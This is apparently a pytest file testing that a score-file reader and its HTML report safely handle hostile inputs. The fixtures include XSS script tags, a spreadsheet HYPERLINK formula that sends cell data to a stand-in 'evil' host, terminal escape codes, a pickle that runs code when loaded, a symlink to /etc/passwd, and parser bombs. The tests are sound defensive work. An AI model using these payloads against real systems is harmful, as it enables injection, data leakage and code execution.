"""Files of scores by somebody who wants code to be run, a page changed or a number misread."""

import csv
import json
import os
import pickle
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch

from paperlib.io import read_scores

PAGE = "<script>document.title='XSS'</script><img src=x onerror=document.title='XSS'>"
STEERS = "\x1b[31mred\x1b]0;title\x07"
NUMBER = 400
RNG = np.random.default_rng(0)
MEMBERS = RNG.integers(0, 2, NUMBER)
SCORES = RNG.normal(0, 1, NUMBER) + 1.5 * MEMBERS
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


class Runs:
    """An object that makes a folder RAN when it is taken out of a pickle."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, ("RAN",)


def table(columns: Sequence[str], row: Callable[[int], Sequence[object]]) -> Path:
    """A CSV with a row for each of the scores."""
    path = Path("scores.csv")
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        writer.writerows(row(number) for number in range(NUMBER))
    return path


def named(name: Callable[[int], object]) -> Callable[[], Path]:
    """A file of scores whose records have names."""
    return lambda: table(["id", "member", "score"], lambda at: [name(at), MEMBERS[at], plain(at)])


def scored(score: Callable[[int], object]) -> Callable[[], Path]:
    """A file of scores that are written in some way."""
    return lambda: table(["member", "score"], lambda at: [MEMBERS[at], score(at)])


def plain(at: int) -> str:
    return repr(float(SCORES[at]))


def html_columns() -> Path:
    columns = ["member", "score", f"{PAGE}extra", "javascript:alert(1)"]
    return table(columns, lambda at: [MEMBERS[at], plain(at), 1, 2])


def of_bytes(name: str, data: bytes) -> Callable[[], Path]:
    """A file with these bytes."""

    def written() -> Path:
        Path(name).write_bytes(data)
        return Path(name)

    return written


def objects() -> Path:
    held = np.array([Runs()] * 10, dtype=object)
    np.savez("objects.npz", scores=held, member=MEMBERS[:10])
    return Path("objects.npz")


def torch_pickle() -> Path:
    held = {"scores": torch.tensor(SCORES), "member": torch.tensor(MEMBERS), "x": Runs()}
    torch.save(held, "torch.pt")
    return Path("torch.pt")


def key_twice() -> Path:
    lines: list[str] = []
    for at in range(NUMBER):
        row = json.dumps({"member": int(MEMBERS[at]), "score": SCORES[at]})
        lines.append(f'{row[:-1]}, "score": 0.5}}\n')
    Path("twice.jsonl").write_text("".join(lines))
    return Path("twice.jsonl")


def link() -> Path:
    Path("link.csv").symlink_to("/etc/passwd")
    return Path("link.csv")


def pipe() -> Path:
    os.mkfifo("pipe.csv")
    return Path("pipe.csv")


def folder() -> Path:
    Path("folder.csv").mkdir()
    return Path("folder.csv")


def lying_header() -> Path:
    """An array of 2^45 numbers by its header, of which eight are there."""
    whole = {"descr": "<f8", "fortran_order": False, "shape": (2**45,)}
    with Path("lies.npy").open("wb") as file:
        np.lib.format.write_array_header_1_0(file, whole)
        file.write(b"\0" * 64)
    return Path("lies.npy")


def lying_headers() -> Path:
    """As `lying_header`, of two arrays in one file."""
    data = lying_header().read_bytes()
    with zipfile.ZipFile("lies.npz", "w") as archive:
        for name in ("scores", "member"):
            archive.writestr(f"{name}.npy", data)
    return Path("lies.npz")


def one_row() -> Path:
    columns = {"member": [0.0], "score": [0.0]}
    pq.write_table(pa.table(columns), "one.parquet")
    return Path("one.parquet")


def many_columns() -> Path:
    columns = ["member", "score", *(f"c{at}" for at in range(1_000))]
    return table(columns, lambda at: [MEMBERS[at], plain(at), *[0] * 1_000])


READ = {
    "a thousand columns": many_columns,
    "a page as name": named(lambda at: f"{PAGE}{at}"),
    "a formula as name": named(lambda at: f'=HYPERLINK("http://evil/?"&A{at})'),
    "terminal codes as name": named(lambda at: f"{STEERS}{at}\r\nrow"),
    "direction marks as name": named(lambda at: f"\u202e\u2066evil{at}\u2069"),
    "a page as column": html_columns,
    "a number in two places": scored(lambda at: f"{SCORES[at]:.17e}"),
}
REFUSED = {
    "a cell of 20 MB": scored(lambda at: "1" * 20_000_000 if at == 0 else plain(at)),
    "a name of 20 MB": named(lambda at: "A" * 20_000_000 if at == 0 else at),
    "one row": one_row,
    "headers that lie": lying_headers,
    "a formula as score": scored(lambda at: "=1+1" if at == 3 else plain(at)),
    "digits of another script": scored(lambda at: f"{SCORES[at]:.4f}".translate(ARABIC)),
    "underscores": scored(lambda at: f"{abs(SCORES[at]) * 1000:.0f}_000"),
    "hexadecimal": scored(lambda at: hex(int(1000 * SCORES[at] + 9000))),
    "not a number": scored(lambda at: "NaN" if at == 5 else plain(at)),
    "no character": of_bytes("nul.csv", b"member,score\n1,\x000.5\n0,0.2\n" * 50),
    "objects in arrays": objects,
    "a pickle of torch": torch_pickle,
    "a pickle named as one": of_bytes("plain.pt", pickle.dumps({"scores": Runs()})),
    "a pickle": of_bytes("plain.pkl", pickle.dumps({"scores": Runs()})),
    "brackets": of_bytes("deep.json", b"[" * 200_000),
    "brackets in lines": of_bytes("deep.jsonl", b"[" * 200_000),
    "a number of 100,000 digits": of_bytes(
        "big.jsonl", b'{"member": 1, "score": ' + b"1" * 100_000 + b"}\n"
    ),
    "a prototype": of_bytes("proto.json", b'{"members": [1.0], "__proto__": {"x": 1}}'),
    "a key twice": key_twice,
    "a link to another file": link,
    "a pipe": pipe,
    "a folder": folder,
    "a header that lies": lying_header,
}


@pytest.mark.parametrize("name", READ)
def test_names_are_names_whatever_they_hold(here, name):
    """What is no score is kept as it stands; the scores are those of the file."""
    found = read_scores(READ[name]()).scores
    read = np.sort(np.concatenate([found.member, found.nonmember]))
    np.testing.assert_allclose(read, np.sort(SCORES), rtol=1e-15)
    assert not Path("RAN").exists()


def test_twenty_thousand_columns_change_no_score(here):
    """Forty rows of them: 1.7 MB."""
    columns = ",".join(f"c{at}" for at in range(20_000))
    rows = [f"{MEMBERS[at]},{plain(at)}{',0' * 20_000}" for at in range(40)]
    Path("wide.csv").write_text("\n".join([f"member,score,{columns}", *rows]))
    found = read_scores("wide.csv").scores
    read = np.sort(np.concatenate([found.member, found.nonmember]))
    np.testing.assert_array_equal(read, np.sort(SCORES[:40]))


BEYOND = {"1e999": np.inf, "-1e999": -np.inf, "1e-999": 0.0}
"""Numbers that no float holds, and the place in the order that is theirs."""


@pytest.mark.parametrize("number", BEYOND)
@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_a_number_that_no_float_holds_keeps_its_place_in_the_order(here, number, ending):
    """It is neither left out nor read as another: all others are below it, or above."""
    member = int(np.flatnonzero(MEMBERS)[3])

    def written(at: int) -> str:
        return number if at == member else plain(at)

    path = scored(written)()
    if ending == "jsonl":
        path = Path("scores.jsonl")
        lines = [f'{{"member": {MEMBERS[at]}, "score": {written(at)}}}' for at in range(NUMBER)]
        path.write_text("\n".join(lines))
    found = read_scores(path).scores
    expected = SCORES[MEMBERS == 1].copy()
    expected[3] = BEYOND[number]
    np.testing.assert_array_equal(np.sort(found.member), np.sort(expected))
    np.testing.assert_array_equal(np.sort(found.nonmember), np.sort(SCORES[MEMBERS == 0]))


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_none_of_scores_is_refused_in_one_line(here, name):
    """Nothing runs, nothing is waited for, and no other number is read."""
    path = REFUSED[name]()
    with pytest.raises((ValueError, OSError)) as caught:
        read_scores(path)
    said = str(caught.value)
    assert str(path) in said
    assert len(said) < 1_000
    assert not Path("RAN").exists()


@pytest.mark.parametrize("name", ["a page as name", "a page as column", "terminal codes as name"])
def test_names_are_text_in_the_report(command, here, name):
    """No tag of a name stands in the page, and nothing of it steers the terminal."""
    path = READ[name]()
    code, out, error = command(
        "audit", str(path), "--kind", "scores", "--design", "game", "--output", "report.html"
    )
    assert code == 0, error
    page = Path("report.html").read_text(encoding="utf-8")
    assert "<script>document" not in page
    assert "<img src=x" not in page
    assert "\x1b" not in out + error
